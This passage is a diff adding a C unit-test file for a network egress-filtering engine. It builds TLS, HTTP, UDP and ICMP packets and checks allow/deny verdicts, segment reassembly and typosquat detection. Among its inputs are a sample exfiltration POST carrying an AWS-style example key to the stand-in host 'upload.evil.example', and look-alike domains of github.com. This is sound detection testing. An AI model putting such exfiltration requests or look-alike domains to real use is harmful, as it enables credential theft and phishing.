@@ -1,20 +1,1112 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
+/*
+ * The decision engine, end to end on packets built here: IPv4/IPv6 TCP
+ * SYNs, real ClientHellos split across records and segments (in and out
+ * of order, duplicated, overlapping), HTTP, UDP, ICMP, garbage; verify
+ * mode, audit mode, timeouts, the DNS guard. Every test counts verdict
+ * callbacks per packet handle: each handle gets exactly one.
+ */
 #include <stdarg.h>
 #include <stddef.h>
 #include <setjmp.h>
 #include <stdint.h>
 #include <cmocka.h>
 
-static void placeholder(void **state)
+#include <stdio.h>
+#include <string.h>
+
+#include "engine.h"
+
+#define S 1000000000ull
+#define MAXH 512
+#define MAXEV 64
+
+struct evrec {
+	int kind;
+	enum reason reason;
+	char name[256];
+	char qname[256];
+	enum name_source src;
+	uint32_t bits;
+	unsigned count;
+	bool enforced;
+	char detail[64];
+	char masked[24];
+	enum cred_type ctype;
+	unsigned ncreds;
+	unsigned rule_line;
+	char imitates[254];
+	enum severity sev;
+	uint16_t dport;
+};
+
+struct h {
+	unsigned vcount[MAXH];
+	enum verdict vlast[MAXH];
+	uint64_t next_handle;
+	struct evrec ev[MAXEV];
+	unsigned nev;
+	char resolves[8][256];
+	unsigned nres;
+	struct engine *e;
+	struct policy *p;
+	struct bindings *b;
+	struct engine_config cfg;
+};
+
+static void on_verdict(void *arg, uint64_t handle, enum verdict v)
+{
+	struct h *h = arg;
+	assert_true(handle < MAXH);
+	h->vcount[handle]++;
+	h->vlast[handle] = v;
+}
+
+static void on_event(void *arg, const struct flow_event *ev)
+{
+	struct h *h = arg;
+	assert_true(h->nev < MAXEV);
+	struct evrec *r = &h->ev[h->nev++];
+	memset(r, 0, sizeof *r);
+	r->kind = ev->kind;
+	r->reason = ev->reason;
+	snprintf(r->name, sizeof r->name, "%s", ev->name ? ev->name : "");
+	snprintf(r->qname, sizeof r->qname, "%s", ev->qname ? ev->qname : "");
+	r->src = ev->name_source;
+	r->bits = ev->ind.bits;
+	r->count = ev->count;
+	r->enforced = ev->enforced;
+	snprintf(r->detail, sizeof r->detail, "%s", ev->detail ? ev->detail : "");
+	r->ncreds = (unsigned)ev->ind.ncreds;
+	if (ev->ind.ncreds) {
+		snprintf(r->masked, sizeof r->masked, "%s", ev->ind.creds[0].masked);
+		r->ctype = ev->ind.creds[0].type;
+	}
+	r->rule_line = ev->rule ? ev->rule->line : 0;
+	snprintf(r->imitates, sizeof r->imitates, "%s", ev->ind.imitates);
+	r->sev = ev->ind.severity;
+	r->dport = ev->dport;
+	assert_true(ev->count >= 1);
+}
+
+static void on_resolve(void *arg, const char *name)
+{
+	struct h *h = arg;
+	assert_true(h->nres < 8);
+	snprintf(h->resolves[h->nres++], 256, "%s", name);
+}
+
+static struct addr A(const char *s)
+{
+	struct addr a;
+	assert_true(addr_parse(s, &a));
+	return a;
+}
+
+static const uint16_t P443[] = {443}, P80[] = {80, 443}, P22[] = {22}, P123[] = {123};
+
+/*
+ * Policy: line 1 api.example.com, 2 other.example.com, 3 www.example.com:80,443,
+ * 4 ssh.example.com:22, 5 203.0.113.0/24:443, 6 [2001:db8:1::/48]:443,
+ * 7 ntp.example.com:123, 8 *.cdn.example.com, 9 github.com
+ */
+static struct policy *make_policy(void)
+{
+	struct policy_builder *b = policy_builder_new();
+	assert_int_equal(policy_builder_add_name(b, "api.example.com", false, P443, 1, "t.list", 1, "api.example.com"), 0);
+	assert_int_equal(policy_builder_add_name(b, "other.example.com", false, P443, 1, "t.list", 2, "other.example.com"), 0);
+	assert_int_equal(policy_builder_add_name(b, "www.example.com", false, P80, 2, "t.list", 3, "www.example.com:80,443"), 0);
+	assert_int_equal(policy_builder_add_name(b, "ssh.example.com", false, P22, 1, "t.list", 4, "ssh.example.com:22"), 0);
+	struct addr n = A("203.0.113.0"), n6 = A("2001:db8:1::");
+	assert_int_equal(policy_builder_add_range(b, &n, 24, P443, 1, "t.list", 5, "203.0.113.0/24:443"), 0);
+	assert_int_equal(policy_builder_add_range(b, &n6, 48, P443, 1, "t.list", 6, "[2001:db8:1::/48]:443"), 0);
+	assert_int_equal(policy_builder_add_name(b, "ntp.example.com", false, P123, 1, "t.list", 7, "ntp.example.com:123"), 0);
+	assert_int_equal(policy_builder_add_name(b, "cdn.example.com", true, P443, 1, "t.list", 8, "*.cdn.example.com"), 0);
+	assert_int_equal(policy_builder_add_name(b, "github.com", false, P443, 1, "t.list", 9, "github.com"), 0);
+	struct policy *p = policy_builder_finish(b);
+	assert_non_null(p);
+	return p;
+}
+
+static struct h *setup_with(void (*tweak)(struct engine_config *))
+{
+	static struct h hs;
+	struct h *h = &hs;
+	memset(h, 0, sizeof *h);
+	engine_config_defaults(&h->cfg);
+	if (tweak)
+		tweak(&h->cfg);
+	h->p = make_policy();
+	h->b = bind_new(1024);
+	struct engine_hooks hooks = {on_verdict, on_event, on_resolve, h};
+	h->e = engine_new(&h->cfg, h->p, h->b, &hooks);
+	assert_non_null(h->e);
+	return h;
+}
+
+/* Free the engine and check every handle handed out got exactly one verdict. */
+static void teardown_h(struct h *h)
+{
+	engine_free(h->e);
+	for (uint64_t i = 0; i < h->next_handle; i++) {
+		if (h->vcount[i] != 1)
+			fail_msg("handle %llu got %u verdicts", (unsigned long long)i, h->vcount[i]);
+	}
+	bind_free(h->b);
+	policy_free(h->p);
+}
+
+/* ---- packet builders ---- */
+
+static void put16(uint8_t *p, uint16_t v)
+{
+	p[0] = (uint8_t)(v >> 8);
+	p[1] = (uint8_t)v;
+}
+
+static void put32(uint8_t *p, uint32_t v)
+{
+	put16(p, (uint16_t)(v >> 16));
+	put16(p + 2, (uint16_t)v);
+}
+
+/* IP header for proto with l4len bytes following; returns header length. */
+static size_t build_ip(uint8_t *out, const char *src, const char *dst, uint8_t proto,
+		       size_t l4len)
+{
+	struct addr s = A(src), d = A(dst);
+	assert_int_equal(s.family, d.family);
+	if (s.family == ADDR_V4) {
+		memset(out, 0, 20);
+		out[0] = 0x45;
+		put16(out + 2, (uint16_t)(20 + l4len));
+		put16(out + 6, 0x4000); /* DF */
+		out[8] = 64;
+		out[9] = proto;
+		memcpy(out + 12, s.b, 4);
+		memcpy(out + 16, d.b, 4);
+		return 20;
+	}
+	memset(out, 0, 40);
+	out[0] = 0x60;
+	put16(out + 4, (uint16_t)l4len);
+	out[6] = proto;
+	out[7] = 64;
+	memcpy(out + 8, s.b, 16);
+	memcpy(out + 24, d.b, 16);
+	return 40;
+}
+
+static size_t build_tcp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
+			uint16_t dport, uint32_t seq, uint8_t flags, const void *pl, size_t n)
+{
+	size_t ip = build_ip(out, src, dst, 6, 20 + n);
+	uint8_t *t = out + ip;
+	memset(t, 0, 20);
+	put16(t, sport);
+	put16(t + 2, dport);
+	put32(t + 4, seq);
+	put32(t + 8, flags & 0x10 ? 1 : 0);
+	t[12] = 5 << 4;
+	t[13] = flags;
+	put16(t + 14, 65535);
+	if (n)
+		memcpy(t + 20, pl, n);
+	return ip + 20 + n;
+}
+
+static size_t build_udp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
+			uint16_t dport, const void *pl, size_t n)
+{
+	size_t ip = build_ip(out, src, dst, 17, 8 + n);
+	uint8_t *u = out + ip;
+	put16(u, sport);
+	put16(u + 2, dport);
+	put16(u + 4, (uint16_t)(8 + n));
+	put16(u + 6, 0);
+	if (n)
+		memcpy(u + 8, pl, n);
+	return ip + 8 + n;
+}
+
+static uint64_t feed(struct h *h, const uint8_t *pkt, size_t len, uint64_t now)
+{
+	uint64_t id = h->next_handle++;
+	assert_true(id < MAXH);
+	engine_packet(h->e, id, pkt, len, 1000, now);
+	return id;
+}
+
+#define ISN 1000u
+#define SYN 0x02
+#define ACK 0x10
+#define PSH 0x08
+
+static uint64_t syn(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
+		    uint64_t now)
+{
+	uint8_t pkt[128];
+	size_t n = build_tcp(pkt, src, dst, sport, dport, ISN, SYN, NULL, 0);
+	return feed(h, pkt, n, now);
+}
+
+/* A segment at stream offset off (ISN+1 relative). */
+static uint64_t seg(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
+		    size_t off, const void *data, size_t n, uint64_t now)
+{
+	uint8_t pkt[4096];
+	assert_true(n < 4000);
+	size_t len = build_tcp(pkt, src, dst, sport, dport, ISN + 1 + (uint32_t)off, ACK | PSH,
+			       data, n);
+	return feed(h, pkt, len, now);
+}
+
+/* ClientHello (TLS 1.3 shape) carried in `records` handshake records. */
+static size_t build_hello(uint8_t *out, const char *sni, bool ech, size_t pad, size_t records)
+{
+	uint8_t body[2048];
+	size_t o = 0;
+	put16(body + o, 0x0303);
+	o += 2;
+	memset(body + o, 0x11, 32);
+	o += 32;
+	body[o++] = 32;
+	memset(body + o, 0x22, 32);
+	o += 32;
+	put16(body + o, 2);
+	put16(body + o + 2, 0x1301);
+	o += 4;
+	body[o++] = 1;
+	body[o++] = 0;
+	size_t extlen_at = o;
+	o += 2;
+	if (sni) {
+		size_t sl = strlen(sni);
+		put16(body + o, 0x0000);
+		put16(body + o + 2, (uint16_t)(sl + 5));
+		put16(body + o + 4, (uint16_t)(sl + 3));
+		body[o + 6] = 0;
+		put16(body + o + 7, (uint16_t)sl);
+		memcpy(body + o + 9, sni, sl);
+		o += 9 + sl;
+	}
+	put16(body + o, 0x002b); /* supported_versions: TLS 1.3 */
+	put16(body + o + 2, 3);
+	body[o + 4] = 2;
+	put16(body + o + 5, 0x0304);
+	o += 7;
+	if (ech) {
+		put16(body + o, 0xfe0d);
+		put16(body + o + 2, 4);
+		memset(body + o + 4, 0xab, 4);
+		o += 8;
+	}
+	if (pad) {
+		put16(body + o, 0x0015);
+		put16(body + o + 2, (uint16_t)pad);
+		memset(body + o + 4, 0, pad);
+		o += 4 + pad;
+	}
+	put16(body + extlen_at, (uint16_t)(o - extlen_at - 2));
+	uint8_t hs[2100];
+	hs[0] = 1;
+	hs[1] = (uint8_t)(o >> 16);
+	hs[2] = (uint8_t)(o >> 8);
+	hs[3] = (uint8_t)o;
+	memcpy(hs + 4, body, o);
+	size_t hl = o + 4, w = 0, done = 0;
+	for (size_t r = 0; r < records; r++) {
+		size_t frag = r + 1 == records ? hl - done : hl / records;
+		out[w] = 22;
+		put16(out + w + 1, 0x0301);
+		put16(out + w + 3, (uint16_t)frag);
+		memcpy(out + w + 5, hs + done, frag);
+		w += 5 + frag;
+		done += frag;
+	}
+	return w;
+}
+
+static const struct evrec *last_ev(const struct h *h)
+{
+	assert_true(h->nev > 0);
+	return &h->ev[h->nev - 1];
+}
+
+static void bind_name(struct h *h, const char *name, const char *ip)
+{
+	struct addr a = A(ip);
+	assert_int_equal(bind_add(h->b, name, &a, 1000 * S, 0), 0);
+}
+
+/* ---- tests ---- */
+
+static void test_syn_range_and_repeats(void **state)
 {
 	(void)state;
-	skip();
+	struct h *h = setup_with(NULL);
+	uint64_t a = syn(h, "192.0.2.1", "203.0.113.5", 40000, 443, 1);
+	assert_int_equal(h->vcount[a], 1);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	assert_int_equal(h->nev, 1);
+	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
+	assert_int_equal(last_ev(h)->rule_line, 5);
+	/* a packet queued before the mark took effect: same verdict, no new event */
+	uint64_t b = seg(h, "192.0.2.1", "203.0.113.5", 40000, 443, 0, "x", 1, 2);
+	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
+	assert_int_equal(h->nev, 1);
+	/* IPv6 range */
+	uint64_t c = syn(h, "2001:db8:ff::1", "2001:db8:1::443", 40001, 443, 3);
+	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->rule_line, 6);
+	/* range known, port not */
+	uint64_t d = syn(h, "192.0.2.1", "203.0.113.5", 40002, 8443, 4);
+	assert_int_equal(h->vlast[d], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
+	teardown_h(h);
+}
+
+static void test_syn_ip_not_allowed(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	uint64_t a = syn(h, "192.0.2.1", "198.51.100.9", 40000, 443, 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(h->nev, 1);
+	const struct evrec *ev = last_ev(h);
+	assert_int_equal(ev->kind, EVENT_DENY);
+	assert_int_equal(ev->reason, REASON_IP_NOT_ALLOWED);
+	assert_true(ev->bits & IND_IP_LITERAL);
+	assert_int_equal(ev->sev, SEVERITY_MEDIUM);
+	assert_true(ev->enforced);
+	/* retransmission: DENY again, no new event */
+	uint64_t b = syn(h, "192.0.2.1", "198.51.100.9", 40000, 443, 2);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_int_equal(h->nev, 1);
+	/* bound, but to a name not allowed on this port */
+	bind_name(h, "ssh.example.com", "198.51.100.22");
+	uint64_t c = syn(h, "192.0.2.1", "198.51.100.22", 40001, 443, 3);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
+	teardown_h(h);
+}
+
+static void test_tls_split_out_of_order(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
+	assert_int_equal(h->vlast[s], VERDICT_PASS);
+	uint64_t ack = seg(h, cl, sv, 40000, 443, 0, NULL, 0, 2);
+	assert_int_equal(h->vlast[ack], VERDICT_PASS);
+	assert_int_equal(h->nev, 0);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 400, 2);
+	size_t q = n / 4;
+	size_t offs[4] = {0, q, 2 * q, 3 * q}, lens[4] = {q, q, q, n - 3 * q};
+	uint64_t ids[4];
+	int order[4] = {2, 0, 3, 1};
+	for (int i = 0; i < 3; i++) {
+		int k = order[i];
+		ids[k] = seg(h, cl, sv, 40000, 443, offs[k], hello + offs[k], lens[k], 3 + (uint64_t)i);
+		assert_int_equal(h->vcount[ids[k]], 0); /* held */
+	}
+	struct engine_stats st;
+	engine_stats(h->e, &st);
+	assert_int_equal(st.held_packets, 3);
+	/* an exact retransmission of a held segment: dropped, the original is held */
+	uint64_t dup = seg(h, cl, sv, 40000, 443, offs[0], hello + offs[0], lens[0], 6);
+	assert_int_equal(h->vcount[dup], 1);
+	assert_int_equal(h->vlast[dup], VERDICT_DROP);
+	/* overlapping with identical bytes, partly new: held too */
+	uint64_t ov = seg(h, cl, sv, 40000, 443, offs[1] - 10, hello + offs[1] - 10, 20, 7);
+	assert_int_equal(h->vcount[ov], 0);
+	ids[1] = seg(h, cl, sv, 40000, 443, offs[1], hello + offs[1], lens[1], 8);
+	for (int k = 0; k < 4; k++) {
+		assert_int_equal(h->vcount[ids[k]], 1);
+		assert_int_equal(h->vlast[ids[k]], VERDICT_ALLOW);
+	}
+	assert_int_equal(h->vlast[ov], VERDICT_ALLOW);
+	assert_int_equal(h->nev, 1);
+	const struct evrec *ev = last_ev(h);
+	assert_int_equal(ev->kind, EVENT_ALLOW);
+	assert_string_equal(ev->name, "api.example.com");
+	assert_int_equal(ev->src, NAME_SOURCE_SNI);
+	assert_int_equal(ev->rule_line, 1);
+	engine_stats(h->e, &st);
+	assert_int_equal(st.held_packets, 0);
+	assert_int_equal(st.held_bytes, 0);
+	/* later data of the flow: ALLOW at once */
+	uint64_t later = seg(h, cl, sv, 40000, 443, n, "abc", 3, 9);
+	assert_int_equal(h->vlast[later], VERDICT_ALLOW);
+	teardown_h(h);
+}
+
+static void test_tls_ipv6_and_wildcard(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "2001:db8:ff::1", *sv = "2001:db8:2::10";
+	bind_name(h, "img.cdn.example.com", sv);
+	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
+	assert_int_equal(h->vlast[s], VERDICT_PASS);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "img.cdn.example.com", false, 0, 1);
+	uint64_t d = seg(h, cl, sv, 40000, 443, 0, hello, n, 2);
+	assert_int_equal(h->vlast[d], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->rule_line, 8);
+	teardown_h(h);
+}
+
+static void hello_case(const char *sni, bool ech, const char *bound_name, enum reason want,
+		       uint32_t want_bits, enum severity sev)
+{
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, bound_name, sv);
+	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
+	assert_int_equal(h->vlast[s], VERDICT_PASS);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, sni, ech, 0, 1);
+	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 2);
+	assert_int_equal(h->vcount[a], 0);
+	uint64_t b = seg(h, cl, sv, 40000, 443, n / 2, hello + n / 2, n - n / 2, 3);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	const struct evrec *ev = last_ev(h);
+	assert_int_equal(ev->kind, EVENT_DENY);
+	assert_int_equal(ev->reason, want);
+	if ((ev->bits & want_bits) != want_bits)
+		fail_msg("bits %#x want %#x", ev->bits, want_bits);
+	assert_int_equal(ev->sev, sev);
+	/* the rest of the flow: DENY, no new event */
+	unsigned nev = h->nev;
+	uint64_t c = seg(h, cl, sv, 40000, 443, n, "zz", 2, 4);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	assert_int_equal(h->nev, nev);
+	teardown_h(h);
+}
+
+static void test_tls_denials(void **state)
+{
+	(void)state;
+	/* SNI not in the policy */
+	hello_case("evil.example.net", false, "api.example.com", REASON_NAME_NOT_ALLOWED,
+		   IND_SPLIT_HELLO, SEVERITY_MEDIUM);
+	/* allowed name, but DNS never gave this address for it */
+	hello_case("other.example.com", false, "api.example.com", REASON_SNI_IP_MISMATCH,
+		   IND_SNI_SPOOF | IND_SPLIT_HELLO, SEVERITY_HIGH);
+	/* allowed name on another port only */
+	hello_case("ssh.example.com", false, "api.example.com", REASON_PORT_NOT_ALLOWED, 0,
+		   SEVERITY_MEDIUM);
+	hello_case(NULL, false, "api.example.com", REASON_NO_NAME, 0, SEVERITY_MEDIUM);
+	hello_case("api.example.com", true, "api.example.com", REASON_ECH, IND_ECH,
+		   SEVERITY_MEDIUM);
+	/* look-alike of an allowed registrable domain */
+	hello_case("githuh.com", false, "api.example.com", REASON_NAME_NOT_ALLOWED,
+		   IND_TYPOSQUAT, SEVERITY_HIGH);
+}
+
+static void test_typosquat_imitates(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	bind_name(h, "api.example.com", "198.51.100.10");
+	syn(h, "192.0.2.1", "198.51.100.10", 40000, 443, 1);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "login.g1thub.com", false, 0, 1);
+	uint64_t a = seg(h, "192.0.2.1", "198.51.100.10", 40000, 443, 0, hello, n, 2);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_true(last_ev(h)->bits & IND_TYPOSQUAT);
+	assert_string_equal(last_ev(h)->imitates, "github.com");
+	/* a name under an allowed domain is not a look-alike */
+	syn(h, "192.0.2.1", "198.51.100.10", 40001, 443, 3);
+	n = build_hello(hello, "gist.github.com", false, 0, 1);
+	seg(h, "192.0.2.1", "198.51.100.10", 40001, 443, 0, hello, n, 4);
+	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
+	assert_false(last_ev(h)->bits & IND_TYPOSQUAT);
+	teardown_h(h);
+}
+
+static void test_overlap_conflict(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	syn(h, cl, sv, 40000, 443, 1);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, 20, 2);
+	uint8_t alt[20];
+	memcpy(alt, hello + 10, 20);
+	alt[5] ^= 0xff; /* byte 15 differs from what was held */
+	uint64_t b = seg(h, cl, sv, 40000, 443, 10, alt, 20, 3);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
+	assert_string_equal(last_ev(h)->detail, "overlap_mismatch");
+	(void)n;
+	teardown_h(h);
+}
+
+static void test_tls_malformed(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	syn(h, cl, sv, 40000, 443, 1);
+	/* handshake record carrying a ServerHello (type 2) */
+	const uint8_t bad[] = {22, 3, 1, 0, 8, 2, 0, 0, 4, 3, 3, 0, 0};
+	uint64_t a = seg(h, cl, sv, 40000, 443, 0, bad, sizeof bad, 2);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
+	assert_true(last_ev(h)->detail[0] != '\0');
+	teardown_h(h);
+}
+
+static void test_http(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.80";
+	bind_name(h, "www.example.com", sv);
+	syn(h, cl, sv, 40000, 80, 1);
+	const char *req = "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: t\r\n\r\n";
+	uint64_t a = seg(h, cl, sv, 40000, 80, 0, req, 10, 2);
+	assert_int_equal(h->vcount[a], 0);
+	uint64_t b = seg(h, cl, sv, 40000, 80, 10, req + 10, strlen(req) - 10, 3);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->src, NAME_SOURCE_HTTP_HOST);
+	assert_string_equal(last_ev(h)->name, "www.example.com");
+
+	/* exfiltration: POST to a look-alike with a key in the body */
+	syn(h, cl, sv, 40001, 80, 4);
+	const char *post = "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: 24\r\n"
+			   "\r\nkey=AKIAIOSFODNN7EXAMPLE";
+	uint64_t c = seg(h, cl, sv, 40001, 80, 0, post, strlen(post), 5);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	const struct evrec *ev = last_ev(h);
+	assert_int_equal(ev->reason, REASON_NAME_NOT_ALLOWED);
+	assert_true(ev->bits & IND_CREDENTIAL);
+	assert_int_equal(ev->ctype, CRED_AWS_ACCESS_KEY);
+	assert_string_equal(ev->masked, "AKIA\xe2\x80\xa6MPLE");
+	assert_int_equal(ev->sev, SEVERITY_CRITICAL);
+
+	/* CONNECT is a proxy request */
+	syn(h, cl, sv, 40002, 80, 6);
+	const char *conn = "CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n";
+	uint64_t d = seg(h, cl, sv, 40002, 80, 0, conn, strlen(conn), 7);
+	assert_int_equal(h->vlast[d], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
+
+	/* HTTP/2 prior knowledge: no name */
+	syn(h, cl, sv, 40003, 80, 8);
+	const char *h2 = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+	uint64_t e = seg(h, cl, sv, 40003, 80, 0, h2, strlen(h2), 9);
+	assert_int_equal(h->vlast[e], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_NO_NAME);
+	teardown_h(h);
+}
+
+static void test_other_protocols(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1";
+	bind_name(h, "api.example.com", "198.51.100.10");
+	bind_name(h, "ssh.example.com", "198.51.100.22");
+	/* neither TLS nor HTTP on 443 */
+	syn(h, cl, "198.51.100.10", 40000, 443, 1);
+	uint64_t a = seg(h, cl, "198.51.100.10", 40000, 443, 0, "SSH-2.0-x\r\n", 11, 2);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
+	/* on 22 the DNS binding alone allows it */
+	uint64_t s = syn(h, cl, "198.51.100.22", 40001, 22, 3);
+	assert_int_equal(h->vlast[s], VERDICT_PASS);
+	uint64_t b = seg(h, cl, "198.51.100.22", 40001, 22, 0, "SSH-2.0-OpenSSH_9.2\r\n", 21, 4);
+	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->src, NAME_SOURCE_DNS);
+	assert_string_equal(last_ev(h)->name, "ssh.example.com");
+	assert_int_equal(last_ev(h)->rule_line, 4);
+	teardown_h(h);
+}
+
+static void test_packet_level(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const uint8_t garbage[] = {0x99, 1, 2, 3};
+	uint64_t a = feed(h, garbage, sizeof garbage, 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
+	assert_string_equal(last_ev(h)->detail, "bad_version");
+	/* a non-first IPv4 fragment */
+	uint8_t pkt[256];
+	size_t n = build_udp(pkt, "192.0.2.1", "203.0.113.5", 1, 2, "abcd", 4);
+	put16(pkt + 6, 0x0010);
+	uint64_t b = feed(h, pkt, n, 2);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_string_equal(last_ev(h)->detail, "fragment");
+	/* ICMP echo reaching the queue */
+	n = build_ip(pkt, "192.0.2.1", "203.0.113.5", 1, 8);
+	memset(pkt + n, 0, 8);
+	pkt[n] = 8;
+	uint64_t c = feed(h, pkt, n + 8, 3);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
+	/* GRE */
+	n = build_ip(pkt, "192.0.2.1", "203.0.113.5", 47, 4);
+	memset(pkt + n, 0, 4);
+	uint64_t d = feed(h, pkt, n + 4, 4);
+	assert_int_equal(h->vlast[d], VERDICT_DENY);
+	/* data of a flow whose SYN was never seen */
+	bind_name(h, "api.example.com", "198.51.100.10");
+	uint64_t e = seg(h, "192.0.2.1", "198.51.100.10", 40000, 443, 0, "x", 1, 5);
+	assert_int_equal(h->vlast[e], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
+	/* a segment before the stream start */
+	syn(h, "192.0.2.1", "198.51.100.10", 40001, 443, 6);
+	uint8_t raw[128];
+	size_t rn = build_tcp(raw, "192.0.2.1", "198.51.100.10", 40001, 443, ISN - 5, ACK, "abc", 3);
+	uint64_t f = feed(h, raw, rn, 7);
+	assert_int_equal(h->vlast[f], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
+	teardown_h(h);
+}
+
+static void test_udp(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	uint8_t pkt[256];
+	bind_name(h, "ntp.example.com", "198.51.100.123");
+	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.123", 5000, 123, "ntp", 3);
+	uint64_t a = feed(h, pkt, n, 1);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->src, NAME_SOURCE_DNS);
+	/* next datagram of the same flow */
+	uint64_t a2 = feed(h, pkt, n, 2);
+	assert_int_equal(h->vlast[a2], VERDICT_ALLOW);
+	n = build_udp(pkt, "192.0.2.1", "198.51.100.124", 5000, 123, "ntp", 3);
+	uint64_t b = feed(h, pkt, n, 3);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
+	/* QUIC with policy deny */
+	bind_name(h, "api.example.com", "198.51.100.10");
+	n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5001, 443, "\xc0\x00\x00\x00\x01", 5);
+	uint64_t c = feed(h, pkt, n, 4);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
+	assert_true(last_ev(h)->bits & IND_QUIC);
+	/* UDP to an allowed range */
+	n = build_udp(pkt, "192.0.2.1", "203.0.113.9", 5002, 443, "x", 1);
+	uint64_t d = feed(h, pkt, n, 5);
+	assert_int_equal(h->vlast[d], VERDICT_DENY); /* quic policy deny wins on 443 */
+	teardown_h(h);
+}
+
+static void quic_tweak(struct engine_config *c)
+{
+	c->quic_inspect = true;
+}
+
+static void test_quic_inspect_garbage(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(quic_tweak);
+	uint8_t pkt[256];
+	/* short header: not an Initial */
+	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5001, 443, "\x40\x01\x02\x03", 4);
+	uint64_t a = feed(h, pkt, n, 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
+	teardown_h(h);
+}
+
+static void small_hold(struct engine_config *c)
+{
+	c->hold_segments = 3;
+}
+
+static void test_hold_bounds(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(small_hold);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	/* timeout: half a hello, then silence */
+	syn(h, cl, sv, 40000, 443, 1 * S);
